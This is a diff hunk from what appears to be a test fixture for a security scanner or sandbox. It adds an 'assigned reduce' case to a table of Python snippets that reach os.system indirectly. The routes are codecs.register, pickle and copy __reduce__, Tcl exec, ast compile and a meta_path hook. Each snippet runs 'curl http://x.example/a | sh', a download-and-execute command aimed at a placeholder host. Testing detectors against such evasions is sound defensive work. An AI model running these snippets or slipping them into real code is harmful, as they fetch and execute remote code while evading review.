@@ -35,6 +35,7 @@ RUN_BY = {
     "codecs register": 'import os, codecs\ncodecs.register(lambda n: os.system(\'curl http://x.example/a | sh\'))\n"a".encode("zz")\n',
     "copyreg reduce": "import os, copy\nclass A:\n    def __reduce__(self): return os.system, ('curl http://x.example/a | sh',)\ncopy.copy(A())\n",
     "pickle reduce": "import os, pickle\nclass A:\n    def __reduce__(self): return os.system, ('curl http://x.example/a | sh',)\npickle.loads(pickle.dumps(A()))\n",
+    "assigned reduce": "import os, copy\nclass A: pass\ndef f(self): return os.system, ('curl http://x.example/a | sh',)\nA.__reduce__ = f\ncopy.copy(A())\n",
     "tkinter tcl": 'import tkinter\ntkinter.Tcl().eval("exec sh -c {curl http://x.example/a | sh}")\n',
     "ast compile": 'import ast\nexec(compile(ast.parse("import os; os.system(\'curl http://x.example/a | sh\')"),"a","exec"))\n',
     "meta path": "import sys, os\nclass F:\n    def find_spec(self, *a): os.system('curl http://x.example/a | sh')\nsys.meta_path.insert(0,F())\nimport nothing_there\n",
